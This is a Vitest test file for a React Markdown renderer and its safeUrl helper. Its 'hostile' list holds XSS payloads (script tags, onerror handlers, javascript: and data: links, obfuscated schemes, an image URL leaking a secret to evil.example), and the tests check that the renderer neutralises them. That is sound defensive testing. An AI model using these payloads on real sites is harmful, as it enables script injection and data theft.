// @vitest-environment happy-dom
import { act, cleanup, render, screen } from "@testing-library/react";
import { afterEach, expect, test, vi } from "vitest";
import { Markdown } from "./Markdown";
import { safeUrl } from "./safeUrl";

afterEach(() => {
  cleanup();
  vi.useRealTimers();
});

async function rendered(text: string): Promise<HTMLElement> {
  const { container } = render(<Markdown text={text} />);
  await vi.waitFor(() => expect(container.querySelector("[class*=markdown]")).not.toBeNull(), {
    timeout: 20_000,
  });
  return container;
}

test("markdown_isElements", async () => {
  const container = await rendered("# Head\n\n- [x] **done**\n\n|a|b|\n|-|-|\n|1|2|\n\n`x`");
  // Below the headings that the page has of its own.
  expect(container.querySelector("h1")).toBeNull();
  expect(screen.getByRole("heading", { level: 4 }).textContent).toBe("Head");
  expect(screen.getByRole("img", { name: "done" })).toBeTruthy();
  expect(container.querySelector("strong")?.textContent).toBe("done");
  expect(container.querySelectorAll("td")).toHaveLength(2);
  expect(container.querySelector("input")).toBeNull();
});

const hostile = [
  "<script>globalThis.hacked = true</script>",
  "<img src=x onerror='globalThis.hacked = true'>",
  "<svg/onload=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<a href='javascript:alert(1)'>a</a>",
  "<style>* { background: url(https://evil.example) }</style>",
  "<form action='https://evil.example'><input name=x></form>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](java\nscript:alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:x)",
  "[a](/v1/admin)",
  "[a](//evil.example)",
  "[a](blob:https://evil.example/1)",
  "<javascript:alert(1)>",
  "[a]: javascript:alert(1)\n\n[a]",
  "![i](https://evil.example/?secret)",
  "![i](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![i](https://evil.example/x.png)](javascript:alert(1))",
  "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
];

test.each(hostile)("hostile_%j_doesAndLoadsNothing", async (text) => {
  const container = await rendered(text);
  const elements = [...container.querySelectorAll("*")];
  expect(
    elements.filter((each) =>
      /^(script|img|svg|iframe|style|form|input|object|embed|link|meta|base|math|video|audio)$/i.test(
        each.tagName,
      ),
    ),
  ).toEqual([]);
  for (const { attributes } of elements) {
    for (const { name, value } of attributes) {
      expect(name).not.toMatch(/^on|^src|^srcdoc|^style|^action|^formaction|^ping/i);
      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
    }
  }
  expect("hacked" in globalThis).toBe(false);
});

test("link_leavesWithoutATrace_andSaysWhereTo", async () => {
  await rendered("[click](https://example.org/a) ![pic](https://example.org/p.png)");
  const [link, image] = screen.getAllByRole("link");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(link?.getAttribute("title")).toBe("https://example.org/a");
  expect(image?.textContent).toBe("[image: pic]");
});

test("link_titleThatPretends_stillSaysWhereTo", async () => {
  await rendered('[bank](https://evil.example/ "https://bank.example/")');
  expect(screen.getByRole("link").getAttribute("title")).toBe("https://evil.example/");
});

test.each([
  ["https://example.org/a", "https://example.org/a"],
  ["mailto:ann@example.org", "mailto:ann@example.org"],
  ["javascript:alert(1)", undefined],
  [" \tjavascript:alert(1)", undefined],
  ["/v1/stream", undefined],
  ["", undefined],
])("safeUrl_%j_is %j", (url, safe) => {
  expect(safeUrl(url)).toBe(safe);
});

test("longText_isShownAsItIs", () => {
  const { container } = render(<Markdown text={`**${"x".repeat(60_000)}**`} />);
  expect(container.textContent).toHaveLength(60_004);
  expect(container.querySelector("strong")).toBeNull();
});

test("growingText_isShownLessOftenTheLongerItIs_wholeAtItsEnd", () => {
  vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout", "performance"] });
  const long = "x".repeat(61_000);
  const end = () => container.textContent?.slice(61_000);
  const { container, rerender } = render(<Markdown text={long} growing />);
  rerender(<Markdown text={`${long} one`} growing />);
  expect(end()).toBe(" one");
  rerender(<Markdown text={`${long} one two`} growing />);
  expect(end()).toBe(" one");
  act(() => vi.advanceTimersByTime(700));
  expect(end()).toBe(" one two");
  rerender(<Markdown text={`${long} one two three`} growing />);
  rerender(<Markdown text={`${long} one two three`} growing={false} />);
  expect(end()).toBe(" one two three");
});

test("textThatIsAnother_isShownAtOnce", () => {
  const { container, rerender } = render(<Markdown text={"a".repeat(70_000)} growing />);
  rerender(<Markdown text={"b".repeat(61_000)} growing />);
  expect(container.textContent?.startsWith("b")).toBe(true);
});
